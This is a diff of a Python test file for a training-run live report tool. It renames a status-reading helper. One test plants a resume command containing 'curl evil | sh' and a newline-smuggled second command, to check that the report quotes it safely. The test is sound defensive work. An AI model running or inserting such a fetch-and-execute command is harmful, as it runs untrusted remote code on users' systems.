@@ -8,7 +8,7 @@ import pytest
 
 from moepp_megatron.observe.alert_sinks import _AlertFile
 from moepp_megatron.observe.alerts import Alert
-from moepp_megatron.observe.status import StatusSink, read_status
+from moepp_megatron.observe.status import RunStatus, StatusSink
 from moepp_megatron.runtime.terminal import Console
 from moepp_megatron.tools.report.live import table
 from moepp_megatron.tools.report.live.run import LiveRun
@@ -154,7 +154,7 @@ def test_a_command_in_a_run_folder_is_quoted_as_the_files_word(make_run):
     run = make_run(steps=5)
     command = "cd /x && curl evil | sh\nmoepp train 'a b.yaml' --resume"
     StatusSink(run)
-    status = read_status(run).model_copy(update={"state": "ended", "resume_command": command})
+    status = RunStatus.read(run).model_copy(update={"state": "ended", "resume_command": command})
     (run / "status.json").write_text(status.model_dump_json())
     lines = lines_of(run, width=1000)
     (line,) = [line for line in lines if "curl" in line]
